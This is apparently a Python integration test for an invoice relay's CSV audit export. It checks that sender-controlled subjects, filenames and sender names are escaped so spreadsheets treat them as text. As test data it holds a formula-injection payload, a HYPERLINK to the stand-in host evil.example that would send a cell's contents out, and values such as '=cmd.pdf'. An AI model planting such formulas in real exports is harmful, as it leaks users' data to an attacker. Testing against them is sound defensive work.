"""`invoice-relay audit --format csv` as a user runs it: a stranger's subject and filename
reach the accountant's spreadsheet as text, never as formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests import samples
from tests.integration.test_relay import relay_env, run_relay
from tests.servers.dovecot import DovecotServer
from tests.servers.smtp_sink import SmtpSink
from tests.servers.tls import TestCA

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_audit_csv_neutralises_formulas_from_strangers(
    imap: DovecotServer, smtp: SmtpSink, smtp_ca: TestCA, tmp_path: Path
) -> None:
    database_url = f"sqlite:///{tmp_path / 'relay.db'}"
    uid = imap.append(
        samples.invoice_mail(
            pdfs=[("=cmd.pdf", samples.invoice_pdf(number="1042"))],
            subject=HYPERLINK,
            sender="@evil <billing@shop.example>",
        )
    )
    env = relay_env(imap, smtp, database_url, smtp_ca=smtp_ca)
    assert run_relay(env, "once").returncode == 0

    result = run_relay(env, "audit", "--format", "csv")
    assert result.returncode == 0, result.stderr
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["outcome"] == "forwarded"
    assert row["subject"] == "'" + HYPERLINK
    assert row["filename"] == "'=cmd.pdf"
    assert row["sender"].startswith("'@evil")
    # Our own numbers stay numbers a spreadsheet can sum.
    assert row["uid"] == str(uid)
    assert int(row["size_bytes"]) > 0 and int(row["id"]) > 0
    # No cell that a spreadsheet would evaluate is left anywhere in the file.
    for record in csv.reader(io.StringIO(result.stdout)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in record)
